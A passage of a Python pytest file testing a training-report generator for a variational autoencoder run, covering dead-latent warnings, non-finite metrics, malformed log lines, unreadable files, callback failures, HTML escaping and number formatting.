    ("kl_dims", "expected"),
    [
        ([1.0, 0.05, 0.5], None),
        ([1.0, NAN, 0.05], None),
        ([1.0, 0.0499, 0.5], "1 of 3 latents carries nothing (z1): KL below 0.05 nats in validation at step 1,000."),
        ([0.0, 1.0, -1e-6], "2 of 3 latents carry nothing (z0, z2): KL below 0.05 nats in validation at step 1,000."),
        (
            [0.0] * 3,
            "All 3 latents carry nothing, the decoder ignores them: KL below 0.05 nats in validation at step 1,000. "
            "Try a smaller beta (divergence=beta divergence.beta=0.5), or one that rises from 0 "
            "(divergence=beta_annealed divergence.beta.start=0 divergence.beta.end=1).",
        ),
    ],
)
def test_latents_that_carry_nothing_are_named(folder: Folder, kl_dims: list[float], expected: str | None) -> None:
    folder.records([*RECORDS[:-1], validation_record(1000, kl_dims=kl_dims)])
    texts = [text for _, text in folder.notes() if "finite" not in text]
    assert texts == ([expected] if expected else [])


def test_before_the_first_step_no_latent_is_called_dead(folder: Folder) -> None:
    folder.records([validation_record(0, kl_dims=[0.0, 0.0, 0.0])])
    assert folder.notes() == []


@pytest.mark.parametrize(
    ("wrong", "expected"),
    [
        ({150: {"kl": NAN}}, "kl, in 1 record of metrics.jsonl, first at step 150."),
        (
            {150: {"recon": INF, "kl": 1.0}, 200: {"kl_dims": [1.0, -INF]}},
            "kl_dims, recon, in 2 records of metrics.jsonl, first at step 150.",
        ),
    ],
)
def test_figures_that_are_not_finite_are_told(folder: Folder, wrong: dict[int, dict[str, Any]], expected: str) -> None:
    folder.records([record | wrong.get(record["step"], {}) for record in RECORDS])
    assert folder.notes() == [("warning", f"Not a finite number: {expected}")]


def test_the_best_elbo_is_told_where_it_is_not_the_last(folder: Folder) -> None:
    folder.records([*RECORDS[:-1], validation_record(1000, neg_elbo=NAN)])
    assert folder.page().headline()["-ELBO"] == ("nan", "nats per image, validation; best 71.0 at step 500")


def test_the_time_of_a_resumed_run_is_that_of_all_its_processes(folder: Folder) -> None:
    folder.records([train_record(50, seconds=60.0), train_record(100, seconds=120.0), train_record(150, seconds=9.0)])
    assert folder.page().headline()["Time"] == ("3.2 min", "resumed 2026-11-22 06:17 UTC")
    (folder.path / "status.json").unlink()
    assert folder.page().headline()["Time"] == ("2.1 min", "")


def test_a_process_whose_clock_is_ahead_from_its_first_record_on_is_a_process_all_the_same(folder: Folder) -> None:
    """Three of them: 50 s, 60 s of which compiling took most, and this one, 72 s by its status."""
    folder.environment(sessions=[{"from_step": 0}, {"from_step": 100}, {"from_step": 150}])
    clock = {50: 40.0, 100: 50.0, 150: 60.0, 200: 65.0, 250: 70.0}
    folder.records([train_record(step, seconds=seconds) for step, seconds in clock.items()])
    assert wall_seconds(read_run(folder.path)) == 50.0 + 60.0 + 72.0
    (folder.path / "status.json").unlink()
    assert wall_seconds(read_run(folder.path)) == 50.0 + 60.0 + 70.0


def test_the_log_is_believed_where_the_status_lags_behind(folder: Folder) -> None:
    folder.status(state="running", step=0, total_steps=4000)
    page = folder.page()
    assert "step 1,000 of 4,000" in page.root.text
    (bar,) = page.all("progress")
    assert (bar.attributes["value"], bar.attributes["max"]) == ("1000", "4000")


@pytest.mark.parametrize(
    "behind", ['{"step": 1050, "split": "tra', "{", "\0\0\0", '{"step": 1050}', "\n\n", '{"step": NaN}']
)
def test_a_line_that_is_no_whole_record_is_passed_over(folder: Folder, behind: str) -> None:
    before = sections(read_run(folder.path))
    folder.records(RECORDS, behind)
    assert sections(read_run(folder.path)) == before


HUGE = "1" + "0" * 400


@pytest.mark.parametrize("split", ["train", "validation"])
@pytest.mark.parametrize(
    "figure", [HUGE, f"-{HUGE}", "1e308", "-1e308", "5e-324", "1e999", "NaN", "-Infinity", "1e-310", "1e101"]
)
def test_no_number_ends_a_report(folder: Folder, split: str, figure: str) -> None:
    names = ("loss", "recon", "kl", "neg_elbo", "lr", "beta", "seconds", "images_per_second", "bits_per_dim", "other")
    values = ", ".join(f'"{name}": {figure}' for name in names)
    odd = f'{{"step": 1050, "split": "{split}", {values}, "kl_dims": [{figure}, 1, {figure}]}}'
    folder.records([*RECORDS, *RECORDS[-2:]], odd + "\n" + odd.replace("1050", "1100") + "\n")
    page = folder.page()
    assert "step 1,100" in page.root.text
    coordinates = re.findall(r'(?:cx|cy|x1|y1|x2|y2| d)="([^"]*)"', (folder.path / "report.html").read_text())
    assert not [text for text in coordinates if "nan" in text or "inf" in text]


@pytest.mark.parametrize(
    "line",
    ["[1]", "null", "7", "{", f'{{"step": {HUGE}}}', '{"step": -5}', '{"step": 1.5}', '{"step": true}', '{"step": "5"}',
     '{"step": NaN}', '{"step": 1e308}', '{"step": [1]}', '{"step": 5, "a": ' + "[" * 500 + "]" * 500 + "}",
     "x" * 100_000, '{"step": ' + "1" * 5_000 + "}"],
)  # fmt: skip
def test_a_line_that_is_no_record_is_left_out_and_said(folder: Folder, line: str) -> None:
    before = folder.page().headline()
    folder.records(RECORDS, line + "\n" + line + "\n")
    assert folder.page().headline() == before
    told = f"2 lines of metrics.jsonl cannot be read and are left out, first line {len(RECORDS) + 1}."
    assert folder.notes() == [("warning", told)]


@pytest.mark.parametrize("name", ["status.json", "environment.json", "config.yaml", "metrics.jsonl"])
def test_a_file_that_is_none_is_said_and_not_waited_for(folder: Folder, name: str) -> None:
    (folder.path / name).unlink()
    os.mkfifo(folder.path / name)
    assert ("warning", f"{name} cannot be read: not a regular file.") in folder.notes()
    (folder.path / name).unlink()
    with (folder.path / name).open("wb") as file:
        file.truncate(2 << 30)
    assert f"{name} cannot be read: 2,147,483,648 bytes are more than such a file has." in str(folder.notes())


def test_a_picture_that_is_a_pipe_is_no_picture(folder: Folder) -> None:
    os.mkfifo(folder.path / "grids" / "pipe.png")
    os.mkfifo(folder.path / "grids" / "traversal-2.json")
    assert "pipe" not in [image.attributes["alt"] for image in folder.page().all("img")]


INPUTS = {
    "status.json": [],
    "environment.json": [],
    "config.yaml": ["Config"],
    "metrics.jsonl": ["Curves", "KL per latent"],
    "grids": ["Pictures"],
}


@pytest.mark.parametrize(
    "missing", [missing for size in range(1, 6) for missing in itertools.combinations(INPUTS, size)]
)
def test_what_is_missing_is_left_out(folder: Folder, missing: tuple[str, ...]) -> None:
    everything = folder.page().headings()
    for name in missing:
        (folder.path / name).rename(folder.path / f"not-{name}")
    gone = [heading for name in missing for heading in INPUTS[name]]
    if {"status.json", "environment.json"} <= set(missing):
        gone.append("Environment")
    page = folder.page()
    assert page.headings() == [heading for heading in everything if heading not in gone]
    assert bool(page.all("code")) == ("status.json" not in missing)
    assert page.all("h1")[0].text == (folder.path.name if "environment.json" in missing else "a-run")
    assert ("Nothing to show yet" in page.root.text) == (set(missing) == set(INPUTS))


@pytest.mark.parametrize("content", [b"", b"{", b"null", b"[]", b"7", b'"text"', b"\xff\xfe\x00", b'{"a": "\\ud800"}'])
def test_files_that_hold_something_else_never_stop_the_report(folder: Folder, content: bytes) -> None:
    for name in ("status.json", "environment.json", "metrics.jsonl", "config.yaml", "grids/data.json"):
        (folder.path / name).write_bytes(content)
    folder.page()


def changed(content: Any, path: tuple[Any, ...], value: Any) -> Any:
    """The JSON content with the value at the path replaced."""
    if not path:
        return value
    copy = dict(content) if isinstance(content, dict) else list(content)
    copy[path[0]] = changed(content[path[0]], path[1:], value)
    return copy


def paths(content: Any) -> Iterator[tuple[Any, ...]]:
    yield ()
    pairs = content.items() if isinstance(content, dict) else enumerate(content) if isinstance(content, list) else ()
    for key, value in pairs:
        yield from ((key, *path) for path in paths(value))


@pytest.mark.slow
@pytest.mark.parametrize("value", [None, "text", [], [None], {}, {"a": [1]}, True, -1, 0, 1e300, NAN, INF])
def test_values_of_another_kind_never_stop_the_report(folder: Folder, value: Any) -> None:
    for name, content in {"status.json": STATUS, "environment.json": ENVIRONMENT, "metrics.jsonl": RECORDS[-2]}.items():
        whole = (folder.path / name).read_text()
        for path in paths(content):
            (folder.path / name).write_text(json.dumps(changed(content, path, value)) + "\n")
            folder.page()
        (folder.path / name).write_text(whole)


def engine(step: int, total: int = 5000) -> Training:
    return SimpleNamespace(step=step, total_steps=total, is_due=lambda every: step % every == 0 or step == total)


@pytest.mark.parametrize(("every", "expected"), [(1000, [100, 1000, 2000, 2500]), (60, [*range(60, 2500, 60), 2500])])
def test_the_report_is_written_when_pictures_are(tmp_path: Path, every: int, expected: list[int]) -> None:
    report, written = Report(tmp_path, every), []
    for step in range(1, 2501):
        report.on_step_end(engine(step, total=2500), {})
        if (tmp_path / "report.html").exists():
            (tmp_path / "report.html").unlink()
            written.append(step)
    assert written == expected


@pytest.mark.parametrize("error", [PermissionError("denied"), RunError("no space left on /disk"), KeyError("ours")])
def test_a_report_that_cannot_be_written_costs_one_warning(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, error: Exception
) -> None:
    def refuse(path: Path, data: bytes) -> None:
        raise error

    monkeypatch.setattr(run_page, "write_atomically", refuse)
    report = NonFatal(Report(tmp_path, 100))
    for step in (100, 200, 300):
        report.on_step_end(engine(step), {})
    told, traceback = caplog.records
    assert told.levelno == logging.WARNING
    reason = f"{type(error).__name__}: {error}"
    assert told.getMessage() == f"Report has failed, training goes on without it: {reason}"
    assert (traceback.name, traceback.exc_info[1]) == ("vae_runner.traceback", error)  # to train.log alone


def test_an_interrupt_is_no_failure_of_a_logger(tmp_path: Path) -> None:
    class Stopped(Callback):
        def on_step(self, engine: Training, state: dict[str, Any]) -> None:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        NonFatal(Stopped()).on_step(engine(1), {})


def test_a_tolerated_callback_gets_every_hook_and_keeps_its_state_under_its_own_name() -> None:
    calls = []

    class Told(Callback):
        def state_dict(self) -> dict[str, Any]:
            return {"kept": 7}

        def load_state_dict(self, state: Any) -> None:
            calls.append(state)

    hooks = [name for name in vars(Callback) if name.startswith("on_") or name == "close"]
    assert len(hooks) == 7
    for hook in hooks:
        setattr(Told, hook, lambda self, *arguments, hook=hook: calls.append((hook, len(arguments))))
    told = NonFatal(Told())
    assert (told.name, told.state_dict()) == ("Told", {"kept": 7})
    told.load_state_dict({"kept": 8})
    for hook in hooks:
        count = 2 if hook.startswith("on_step") else 0 if hook == "close" else 1
        getattr(told, hook)(*[engine(1)] * count)
        assert calls[-1] == (hook, count)
    assert calls[0] == {"kept": 8}


def test_markup_is_escaped_once_and_only_text_is() -> None:
    inner = tag("b", "1 < 2 & 3")
    assert inner == "<b>1 &lt; 2 &amp; 3</b>"
    assert tag("p", inner, "<i>", class_="a b", data_x=1, title='"<') == (
        '<p class="a b" data-x="1" title="&quot;&lt;"><b>1 &lt; 2 &amp; 3</b>&lt;i&gt;</p>'
    )
    assert tag("img", alt=None, src="") == '<img src="">'
    assert isinstance(inner, Html)


@pytest.mark.parametrize(
    ("shown", "expected"),
    [
        (count(737280), "737,280"),
        (nats(1234.56), "1,234.6"),
        (nats(-0.125, 2), "-0.12"),
        (nats(NAN), "nan"),
        (duration(4.23), "4.2 s"),
        (duration(52.3), "52 s"),
        (duration(72), "1.2 min"),
        (duration(3600 * 3.4), "3.4 h"),
        (duration(86400 * 2.1), "2.1 days"),
        (moment("2026-11-22T07:17:33+01:00"), "2026-11-22 06:17 UTC"),
        (moment("yesterday"), "yesterday"),
        (plural(1, "record"), "1 record"),
        (plural(1200, "record"), "1,200 records"),
        (images(300, 270, 30), "270 training + 30 validation images"),
        (images(300, 240, 30, 30), "240 training + 30 validation + 30 test images"),
        (images(737_280, 18_000, 2_000, 0), "18,000 training + 2,000 validation of 737,280 images"),
        (images(737_280, 9_000, 500, 500), "9,000 training + 500 validation + 500 test of 737,280 images"),
        (images(737_280, None, None), "737,280 images"),  # of an older run
        (and_more(["z1", "z5"]), "z1, z5"),
        (and_more(["a", "b", "c"], most=1), "a and 2 more"),
    ],
)
def test_figures_are_written_for_people(shown: str, expected: str) -> None:
    assert shown == expected


def test_speed_is_the_median_so_that_a_pause_does_not_count(folder: Folder) -> None:
    folder.records([train_record(50 * i, images_per_second=rate) for i, rate in enumerate((90.0, 6000.0, 6100.0), 1)])
    assert {figure.name: figure.value for figure in figures(read_run(folder.path))}["Images/s"] == "6,000"
